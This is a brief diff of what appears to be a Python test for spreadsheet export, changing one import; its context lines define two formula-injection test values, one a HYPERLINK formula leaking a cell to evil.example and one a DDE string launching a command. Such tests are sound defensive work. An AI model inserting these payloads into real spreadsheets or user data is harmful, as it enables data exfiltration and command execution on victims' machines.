@@ -12,7 +12,7 @@ import io
 
 import openpyxl
 
-from .test_recall_common import RecallCase
+from .recall_common import RecallCase
 
 EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A2,"Open the recall")'
 EVIL_CITY = "+cmd|' /C calc'!A0"
